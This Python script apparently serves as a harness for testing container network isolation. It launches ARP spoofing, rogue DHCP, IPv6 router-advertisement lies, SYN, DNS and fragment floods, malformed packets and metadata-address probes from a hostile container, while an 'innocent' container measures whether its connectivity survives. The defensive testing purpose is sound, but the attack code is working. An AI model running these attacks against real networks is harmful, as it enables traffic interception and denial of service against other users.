#!/usr/bin/env python3
"""What a hostile container does, and what an innocent one notices. Runs inside a container as its root:

    attacks.py innocent NAME             until it is ended; one line of JSON per round
    attacks.py ATTACK SECONDS [ARGUMENT…]

An attack is a generator of frames that are sent through a packet socket as fast as the kernel takes them, or a function
that does its own sending; both end after SECONDS.
"""

import contextlib
import fcntl
import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_ALL = 3
SOL_PACKET, PACKET_VNET_HDR = 263, 15
GATEWAY, HOST, OUTSIDE = "172.17.0.1", "192.0.2.1", "192.0.2.2"
BROADCAST = b"\xff" * 6
INTERFACE = "eth0"

chance = random.Random(20240901)


# -- the pieces of packets

def interface_mac():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return fcntl.ioctl(s, 0x8927, struct.pack("256s", INTERFACE.encode()))[18:24]


def interface_ip():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return socket.inet_ntoa(fcntl.ioctl(s, 0x8915, struct.pack("256s", INTERFACE.encode()))[20:24])


def gateway_mac():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"", (GATEWAY, 9))
    for _ in range(100):
        for line in open("/proc/net/arp", encoding="ascii"):
            fields = line.split()
            if fields[0] == GATEWAY and fields[3] != "00:00:00:00:00:00":
                return bytes.fromhex(fields[3].replace(":", ""))
        time.sleep(0.02)
    raise SystemExit("the gateway does not answer ARP")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ethernet(destination, source, kind, payload):
    return destination + source + struct.pack("!H", kind) + payload


def address(text):
    return socket.inet_aton(text)


def ipv4(source, destination, protocol, payload, ident=0, offset=0, more=False, ttl=64, options=b"", length=None):
    words = 5 + len(options) // 4
    total = words * 4 + len(payload) if length is None else length
    head = struct.pack("!BBHHHBBH4s4s", 0x40 | words, 0, total & 0xffff, ident & 0xffff, (0x2000 if more else 0) | offset // 8,
                       ttl, protocol, 0, address(source), address(destination)) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(source, destination, payload, length=None):
    return struct.pack("!HHHH", source, destination, 8 + len(payload) if length is None else length, 0) + payload


def tcp(source_ip, destination_ip, source, destination, seq, ack, flags, payload=b"", options=b"", window=64000, words=None):
    options += b"\0" * (-len(options) % 4)
    words = 5 + len(options) // 4 if words is None else words
    segment = struct.pack("!HHIIBBHHH", source, destination, seq & 0xffffffff, ack & 0xffffffff, (words & 15) << 4, flags,
                          window, 0, 0) + options + payload
    pseudo = address(source_ip) + address(destination_ip) + struct.pack("!BBH", 0, 6, len(segment))
    return segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]


def icmp(kind, code, rest, payload):
    message = struct.pack("!BBH4s", kind, code, 0, rest) + payload
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def ipv6(source, destination, next_header, payload, hops=255, length=None):
    return struct.pack("!IHBB", 0x60000000, len(payload) if length is None else length, next_header, hops) + \
        socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, destination) + payload


def icmpv6(source, destination, kind, body):
    message = struct.pack("!BBH", kind, 0, 0) + body
    pseudo = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, destination)
    pseudo += struct.pack("!IBBBB", len(message), 0, 0, 0, 58)
    return ipv6(source, destination, 58, message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:])


def arp(operation, sender_mac, sender_ip, target_mac, target_ip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, operation, sender_mac, address(sender_ip), target_mac, address(target_ip))


def dhcp(op, chaddr, xid, kind, options=b"", yiaddr="0.0.0.0"):
    head = struct.pack("!BBBBIHH4s4s4s4s16s", op, 1, 6, 0, xid, 0, 0x8000, bytes(4), address(yiaddr), bytes(4), bytes(4), chaddr)
    return head + bytes(192) + b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + options + b"\xff"


def dns_name(name):
    return b"".join(bytes([len(part)]) + part for part in name.encode().split(b".")) + b"\0"


def dns_query(ident, name, kind=1):
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", kind, 1)


def noise(least, most):
    return chance.randbytes(chance.randint(least, most))


class Me:
    """This container's link."""

    def __init__(self):
        self.gateway = gateway_mac()
        self.mac, self.ip = interface_mac(), interface_ip()
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.socket.bind((INTERFACE, 0))

    def ip4(self, destination, protocol, payload, **fields):
        return ethernet(self.gateway, self.mac, 0x800, ipv4(self.ip, destination, protocol, payload, **fields))

    def ip6(self, packet):
        return ethernet(b"\x33\x33\0\0\0\1", self.mac, 0x86dd, packet)

    def udp(self, destination, source, port, payload, **fields):
        return self.ip4(destination, 17, udp(source, port, payload), **fields)

    def tcp(self, destination, *arguments, **fields):
        return self.ip4(destination, 6, tcp(self.ip, destination, *arguments, **fields))

    def send(self, frame):
        # ENOBUFS: the link is full; ENETDOWN and EINVAL: so it is too.
        with contextlib.suppress(OSError):
            self.socket.send(frame)


# -- attacks on the link

def arp_spoof(me, neighbour):
    neighbour_mac = chance.randbytes(6)
    for _ in forever():
        for claimed, target in ((GATEWAY, neighbour), (neighbour, GATEWAY)):
            for destination in (BROADCAST, me.gateway):
                yield ethernet(destination, me.mac, 0x806, arp(2, me.mac, claimed, BROADCAST, target))
                yield ethernet(destination, me.mac, 0x806, arp(1, me.mac, claimed, bytes(6), claimed))  # gratuitous
                yield ethernet(destination, me.gateway, 0x806, arp(2, me.gateway, claimed, BROADCAST, target))
                yield ethernet(destination, me.mac, 0x806, arp(2, neighbour_mac, claimed, BROADCAST, target))
        yield ethernet(BROADCAST, me.mac, 0x806, noise(0, 60))


def mac_flood(me):
    for number in forever():
        source = (b"\x02" if number % 2 else b"\x03") + chance.randbytes(5)
        yield ethernet(chance.choice((BROADCAST, me.gateway, b"\x02" + chance.randbytes(5))), source, 0x800,
                       ipv4(me.ip, GATEWAY, 17, udp(1, 9, b"x")))


def foreign_sources(me, neighbour):
    for _ in forever():
        for source in (neighbour, GATEWAY, "127.0.0.1", "8.8.8.8", "0.0.0.0", "255.255.255.255", "224.0.0.1"):
            yield ethernet(me.gateway, me.mac, 0x800, ipv4(source, GATEWAY, 17, udp(53, 53, dns_query(1, "innocent"))))
            yield ethernet(me.gateway, me.mac, 0x800, ipv4(source, OUTSIDE, 6, tcp(source, OUTSIDE, 1000, 80, 1, 0, 2)))
        yield me.ip6(ipv6("2001:db8::2", "ff02::1", 17, udp(1, 1, b"")))


def storm(me):
    for number in forever():
        group = BROADCAST if number % 2 else b"\x01\x00\x5e\x00\x00\xfb"
        yield ethernet(group, me.mac, 0x800, ipv4(me.ip, "255.255.255.255", 17, udp(1, 2, bytes(1000))))
        yield ethernet(b"\x02" + chance.randbytes(5), me.mac, 0x800, ipv4(me.ip, "172.17.9.9", 17, udp(1, 2, b"")))


def runts(me):
    for _ in forever():
        yield chance.randbytes(chance.randint(14, 60))
        yield ethernet(me.gateway, me.mac, chance.choice((0, 5, 46, 0x800, 0x806, 0x86dd, 0x8100, 0x88a8, 0x8863, 0xffff)), noise(0, 60))


def router_lies(me, neighbour):
    link = bytes([1, 1]) + me.mac
    prefix = bytes([3, 4, 64, 0xc0]) + struct.pack("!III", 0xffffffff, 0xffffffff, 0) + socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
    for number in forever():
        own = "fe80::%x" % (number & 0xffff | 1)
        yield me.ip6(icmpv6(own, "ff02::1", 134, struct.pack("!BBHII", 64, 0, 9000, 0, 0) + link + prefix))
        yield me.ip6(icmpv6("fe80::1", "ff02::1", 136, struct.pack("!I", 0xe0000000) + socket.inet_pton(socket.AF_INET6, "fe80::1") + b"\2\1" + chance.randbytes(6)))
        yield me.ip6(icmpv6(own, "ff02::1", 137, bytes(36) + link))
        yield me.ip6(icmpv6(own, "ff02::1", chance.randint(130, 150), noise(0, 64)))
        yield me.ip6(ipv6(own, "ff02::1", chance.choice((0, 43, 44, 60, 58)), noise(0, 64)))
        # Sources of its own choice, each with datagrams that never become complete.
        yield ethernet(me.gateway, me.mac, 0x86dd, ipv6(own, "fe80::1", 44, struct.pack("!BBHI", 58, 0, 1, number) + bytes(8)))
        quote = ipv4(neighbour, OUTSIDE, 17, udp(1, 2, b""))[:28]
        yield me.ip4(neighbour, 1, icmp(5, 1, address(me.ip), quote))
        yield me.ip4(GATEWAY, 1, icmp(5, 1, address(me.ip), quote))


def lying_offload(me):
    """Super-frames whose virtio-net header lies. The kernel takes some of them from a packet socket and passes them on."""
    with contextlib.suppress(OSError):
        me.socket.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
    for _ in forever():
        kind = chance.choice((0, 1, 3, 4, 5, 0x81, 0x84, 0xff))
        flags = chance.choice((0, 1, 2, 4, 0xff))
        length = chance.choice((0, 14, 34, 42, 54, 66, 1000, 65535))
        size = chance.choice((0, 1, 8, 100, 1448, 65535))
        start, offset = chance.choice((0, 34, 14, 5000, 65535)), chance.choice((0, 6, 16, 60000))
        body = chance.choice((10, 1400, 9000, 60000))
        packet = ipv4(me.ip, OUTSIDE, 6, tcp(me.ip, OUTSIDE, 1000, 8000, 1, 1, 16, bytes(body))) if kind & 0x7f != 5 and kind != 3 else \
            ipv4(me.ip, OUTSIDE, 17, udp(4000, 4000, bytes(body)))
        yield struct.pack("=BBHHHH", flags, kind, length, size, start, offset) + ethernet(me.gateway, me.mac, 0x800, packet)


# -- attacks on the services

def rogue_dhcp(me, neighbour):
    for _ in forever():
        for kind in (2, 5, 6):
            answer = dhcp(2, me.mac, chance.getrandbits(32), kind, b"\x36\x04" + address(me.ip) + b"\x03\x04" + address(me.ip), neighbour)
            for source, target in ((67, 68), (67, 67), (1000, 68)):
                yield ethernet(BROADCAST, me.mac, 0x800, ipv4(me.ip, "255.255.255.255", 17, udp(source, target, answer)))


def dhcp_flood(me):
    for _ in forever():
        chaddr = b"\x02" + chance.randbytes(5)
        for message in (dhcp(1, chaddr, chance.getrandbits(32), 1), dhcp(1, me.mac, chance.getrandbits(32), 1),
                        dhcp(1, chaddr, 7, 3, b"\x32\x04" + bytes([172, 17, chance.randint(0, 255), chance.randint(0, 255)])),
                        dhcp(1, me.mac, 7, 4, b"\x32\x04" + bytes([172, 17, 0, chance.randint(0, 255)])),
                        dhcp(1, me.mac, 7, chance.choice((7, 8)))):
            yield ethernet(BROADCAST, me.mac, 0x800, ipv4("0.0.0.0", "255.255.255.255", 17, udp(68, 67, message)))


def dhcp_garbage(me):
    for _ in forever():
        options = chance.choice((b"\x35", b"\x35\xff", b"\x0c\x00", b"\x34\x01\x03", b"\x37\xff" + bytes(10), b"\0" * 900, b"\x0c\xff" + b"a" * 255,
                                 b"\x3d\x01\x00", b"\x52\xff\x01\x02", b"\x39\x02\0\0", noise(0, 300)))
        message = dhcp(chance.choice((0, 1, 2, 255)), me.mac, 1, chance.randint(0, 20), options)
        message = message[:chance.choice((10, 236, 240, 243, 250, len(message)))]
        yield ethernet(BROADCAST, me.mac, 0x800, ipv4("0.0.0.0", "255.255.255.255", 17, udp(68, 67, message)))


def dns_flood(me):
    for number in forever():
        name = "%x.%x.example" % (chance.getrandbits(60), chance.getrandbits(20))
        yield me.udp(GATEWAY, 1024 + number % 60000, 53, dns_query(number & 0xffff, name, chance.choice((1, 28, 16, 255))))


def dns_garbage(me):
    head = lambda qd, an=0, flags=0x0100: struct.pack("!HHHHHH", 5, flags, qd, an, 0, chance.choice((0, 1, 65535)))
    question = dns_name("innocent") + b"\0\1\0\1"
    loops = (b"\xc0\x0c\0\1\0\1", b"\xc0\x0e\xc0\x0c\0\1\0\1", b"\1a\xc0\x0c\0\1\0\1", b"\xc0\xff\0\1\0\1", b"\xff" * 20, b"\x40a\0")
    for _ in forever():
        for count in (0, 2, 65535):
            yield me.udp(GATEWAY, 5000, 53, head(count) + question * min(count, 3))
        for loop in loops:
            yield me.udp(GATEWAY, 5000, 53, head(1) + loop)
        yield me.udp(GATEWAY, 5000, 53, head(1, 1, 0x8180) + question + noise(0, 100))
        yield me.udp(GATEWAY, 5000, 53, (head(1) + question)[:chance.randint(0, 20)])
        yield me.udp(GATEWAY, 5000, 53, head(1) + question + b"\0\0\x29" + noise(0, 30))
        yield me.udp(GATEWAY, 5000, 53, head(1) + b"\x3fa" * 200)
        yield me.udp(GATEWAY, 5000, 53, noise(0, 600))


def dns_tcp(seconds):
    """Idle clients, clients that send one byte, and clients that ask much and read nothing."""
    held = []
    end = time.monotonic() + seconds
    query = dns_query(1, "innocent")
    while time.monotonic() < end:
        if len(held) == 300:
            time.sleep(0.01)
            held.pop(0).close()
        client = socket.socket()
        client.setblocking(False)
        client.connect_ex((GATEWAY, 53))
        held.append(client)
        for other in held[-40:]:
            with contextlib.suppress(OSError):
                other.send(chance.choice((b"\0", b"\xff\xff", b"\0\0", (struct.pack("!H", len(query)) + query) * 500)))
    return len(held)


# -- attacks on the gateway

def syn_flood(me, *targets):
    for number in forever():
        for target in targets:
            host, port = target.split(":")
            yield me.tcp(host, 1024 + number % 64000, int(port), chance.getrandbits(32), 0, 2, options=b"\2\4\5\xb4\4\2\1\3\3\7\1")


def tcp_garbage(me):
    """Segments for connections that exist: one byte went out on each, and noise arrives for it."""
    ports = []
    for _ in range(20):
        client = socket.create_connection((OUTSIDE, 8000), 5)
        client.send(b"G")
        ports.append((client.getsockname()[1], client))
    bad_options = (b"\2\0", b"\2\xff", b"\3\3\xff", b"\5\xff", b"\5\x0a" + bytes(8), b"\x08\x0a", b"\xff" * 40, b"\5\2" * 20, b"\x22\x22" * 10)
    for _ in forever():
        for port, _client in ports:
            seq, ack = chance.getrandbits(32), chance.getrandbits(32)
            yield me.tcp(OUTSIDE, port, 8000, seq, ack, chance.choice((4, 1, 16, 17, 20, 2, 18, 0, 41, 63, 255)), noise(0, 100))
            yield me.tcp(OUTSIDE, port, 8000, seq, ack, 16, b"x", options=chance.choice(bad_options))
            yield me.tcp(OUTSIDE, port, 8000, seq, ack, 16, b"x", words=chance.choice((0, 4, 15)))
            yield me.ip4(OUTSIDE, 6, noise(0, 30))


def tcp_overlap(me):
    """A handshake by hand, then segments out of order which overlap in every way, and never the first one."""
    listen = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    listen.bind((INTERFACE, ETH_P_ALL))
    listen.settimeout(0.5)
    os.system(f"ip addr flush dev {INTERFACE}")  # or the kernel would reset what it knows nothing of
    flows = []
    for port in range(30000, 30020):
        me.send(me.tcp(OUTSIDE, port, 8000, 1000, 0, 2, options=b"\2\4\5\xb4\1\3\3\7"))
        with contextlib.suppress(TimeoutError):
            while True:
                frame = listen.recv(2000)
                if frame[12:14] == b"\x08\0" and frame[23] == 6 and frame[36:38] == struct.pack("!H", port) and frame[47] == 18:
                    flows.append((port, struct.unpack("!I", frame[38:42])[0]))
                    break
    assert flows, "no connection could be opened by hand"
    listen.close()
    for _ in forever():
        for port, theirs in flows:
            begin = 1001 + chance.randint(1, 60000)
            yield me.tcp(OUTSIDE, port, 8000, begin, theirs + 1, 16, noise(1, 1400))


def fragments(me):
    data = icmp(8, 0, b"\0\1\0\1", bytes(3000))
    for number in forever():
        yield me.ip4(OUTSIDE, 17, udp(1, 2, bytes(8)), ident=number, more=True)  # never completed
        yield me.ip4(GATEWAY, 1, data[:8], ident=number, more=True)  # tiny
        yield me.ip4(GATEWAY, 1, data[8:1480], ident=number, offset=8, more=True)
        yield me.ip4(GATEWAY, 1, b"\xff" * 1472, ident=number, offset=0, more=True)  # overlaps
        yield me.ip4(GATEWAY, 1, b"x", ident=number, offset=65528)  # ends beyond 65535
        yield me.ip4(GATEWAY, 1, noise(1, 9), ident=7, offset=8 * chance.randint(0, 8191), more=chance.random() < 0.8)
        yield me.ip4(GATEWAY, 1, b"", ident=number, more=True)
        yield me.ip4(GATEWAY, 17, bytes(8), ident=number, length=chance.randint(0, 65535), more=True)


def icmp_garbage(me):
    for number in forever():
        quote = chance.choice((noise(0, 100), ipv4(me.ip, OUTSIDE, 6, noise(0, 20))[:chance.randint(1, 48)],
                               ipv4(OUTSIDE, me.ip, 17, udp(53, 53, b"")), ipv4(me.ip, OUTSIDE, 1, icmp(8, 0, b"", b""))))
        yield me.ip4(chance.choice((OUTSIDE, GATEWAY)), 1, icmp(chance.choice((3, 4, 5, 11, 12, 13, 17, chance.randint(0, 255))),
                                                                 chance.randint(0, 15), b"\0\0" + chance.randbytes(2), quote))
        yield me.ip4(OUTSIDE, 1, icmp(8, 0, struct.pack("!HH", number & 0xffff, 1), noise(0, 1400)))
        yield me.ip4(GATEWAY, 1, icmp(8, 0, struct.pack("!HH", 1, number & 0xffff), noise(0, 1400)))
        yield me.ip4(chance.choice((GATEWAY, OUTSIDE)), chance.randint(0, 255), noise(0, 60),
                     options=chance.choice((b"", b"\x83\x07\x04\xc0\0\2\2\0", b"\x07\x27\x04" + bytes(37), b"\x44\x28" + bytes(38))), ttl=chance.choice((0, 1, 64)))


def huge_pings(seconds):
    end = time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.setblocking(False)
        for number in forever():
            if time.monotonic() > end:
                return number
            for target in (GATEWAY, OUTSIDE):
                with contextlib.suppress(OSError):
                    s.sendto(icmp(8, 0, struct.pack("!HH", number & 0xff, number & 0xffff), bytes(65000)), (target, 0))
    return 0


def udp_spread(me):
    for number in forever():
        yield me.udp(OUTSIDE, 2000 + number % 10000, 4000, b"x")
        yield me.udp(OUTSIDE, 2000, 1 + number % 65535, b"x")
        yield me.udp("198.51.%d.%d" % (number >> 8 & 255, number & 255), 2000 + number % 10000, 4000, b"x")


def forbidden(me):
    """The host's loopback and everything else that is closed, in every spelling that a frame can hold."""
    own = "fe80::%x" % (chance.getrandbits(15) + 1)
    v4 = ("127.0.0.1", "127.255.255.254", "0.0.0.0", "0.0.0.1", "169.254.169.254", "169.254.1.1", "172.20.0.1", "172.20.0.2", "172.17.0.1",
          "172.17.255.255", "172.17.0.0", "255.255.255.255", "224.0.0.1", "240.0.0.1", "100.100.100.200")
    v6 = ("::", "::1", "::ffff:127.0.0.1", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b:1::7f00:1", "2002:7f00:1::1", "::ffff:0:7f00:1",
          "2001:0:0:0:0:0:80ff:fffe", "fe80::1", "ff02::1", "fd00:ec2::254", "64:ff9b::ac14:2")
    for number in forever():
        port = 20000 + number % 1000
        for target in v4:
            yield me.udp(target, port, 18099, b"anybody?")
            yield me.tcp(target, port, 18099, 1, 0, 2)
            yield me.ip4(target, 1, icmp(8, 0, struct.pack("!HH", port, 1), b"anybody?"))
            # A source route past the gateway's own decision.
            yield me.udp(HOST, port, 18099, b"anybody?", options=b"\x83\x07\x04" + address(target) + b"\0")
        for target in v6:
            for destination in (me.gateway, b"\x33\x33\0\0\0\1"):
                yield ethernet(destination, me.mac, 0x86dd, ipv6(own, target, 17, udp(port, 18099, b"anybody?"), hops=64))
                yield ethernet(destination, me.mac, 0x86dd, ipv6(own, target, 6, tcp(me.ip, me.ip, port, 18099, 1, 0, 2), hops=64))


def established(seconds, host, port, count):
    """As many connections as are wanted, held."""
    held, end = [], time.monotonic() + seconds
    while time.monotonic() < end:
        if len(held) < int(count):
            client = socket.socket()
            client.setblocking(False)
            client.connect_ex((host, int(port)))
            held.append(client)
        else:
            time.sleep(0.05)
    return len(held)


def interface_games(seconds):
    end = time.monotonic() + seconds
    rounds = 0
    own = interface_mac()
    while time.monotonic() < end:
        for command in ("down", "up", "mtu 68", "mtu 1500", "down", "address 02:00:00:00:00:07", "up", "address " + own.hex(":"),
                        "arp off", "arp on", "multicast off", "multicast on", "promisc on", "promisc off", "txqueuelen 1", "txqueuelen 1000"):
            os.system(f"ip link set {INTERFACE} {command} 2>/dev/null; ping -c1 -W0.01 -w1 {GATEWAY} >/dev/null 2>&1 &")
        rounds += 1
    return rounds


FRAMES = [arp_spoof, mac_flood, foreign_sources, storm, runts, router_lies, lying_offload, rogue_dhcp, dhcp_flood, dhcp_garbage,
          dns_flood, dns_garbage, syn_flood, tcp_garbage, tcp_overlap, fragments, icmp_garbage, udp_spread, forbidden]
FUNCTIONS = [dns_tcp, huge_pings, established, interface_games]


def forever():
    number = 0
    while True:
        yield number
        number += 1


def attack(name, seconds, arguments):
    for function in FUNCTIONS:
        if function.__name__ == name:
            return function(seconds, *arguments)
    me = Me()
    generator = next(f for f in FRAMES if f.__name__ == name)(me, *arguments)
    end, count = None, 0
    for frame in generator:
        end = end or time.monotonic() + seconds  # what it prepares takes its own time
        me.send(frame)
        count += 1
        if count % 64 == 0 and time.monotonic() > end:
            break
    return count


# -- the innocent

def ask(exchange, tries=3):
    """Milliseconds until it worked, or None. Tries again like a real client."""
    begin = time.monotonic()
    for _ in range(tries):
        with contextlib.suppress(OSError):
            if exchange():
                return round((time.monotonic() - begin) * 1000, 1)
    return None


def innocent(name):
    ident = os.getpid() & 0xffff
    sequence = 0

    def ping(payload=b"are you there?"):
        nonlocal sequence
        sequence += 1
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
            s.settimeout(1)
            s.sendto(icmp(8, 0, struct.pack("!HH", ident, sequence & 0xffff), payload), (GATEWAY, 0))
            while True:
                packet, peer = s.recvfrom(65535)
                if peer[0] == GATEWAY and packet[20] == 0 and packet[24:28] == struct.pack("!HH", ident, sequence & 0xffff):
                    return True

    def dns():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.connect((GATEWAY, 53))
            s.send(dns_query(77, name))
            answer = s.recv(2000)
            return answer[:2] == struct.pack("!H", 77) and answer[3] & 15 == 0 and answer[-4:] == address(interface_ip())

    def http():
        with socket.create_connection((OUTSIDE, 8000), 2) as s:
            s.settimeout(2)
            s.sendall(b"GET / HTTP/1.0\r\n\r\n")
            data = b""
            while piece := s.recv(65536):
                data += piece
            return data.endswith(b"the outside world\n")

    def big_ping():
        return ping(bytes(3000))

    def refused():
        try:
            socket.create_connection((OUTSIDE, 81), 2).close()
        except ConnectionRefusedError:
            return True
        return False

    def udp_refused():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.bind(("", 40000))  # one flow for all rounds
            s.connect((HOST, 9))  # the outside world would answer one in a second only
            s.send(b"anybody?")
            try:
                s.recv(10)
            except ConnectionRefusedError:
                return True
            return False

    while True:
        print(json.dumps({e.__name__: ask(e) for e in (ping, big_ping, dns, http, refused, udp_refused)}), flush=True)
        time.sleep(0.02)


if __name__ == "__main__":
    if sys.argv[1] == "innocent":
        innocent(sys.argv[2])
    print("sent", attack(sys.argv[1], float(sys.argv[2]), sys.argv[3:]), flush=True)
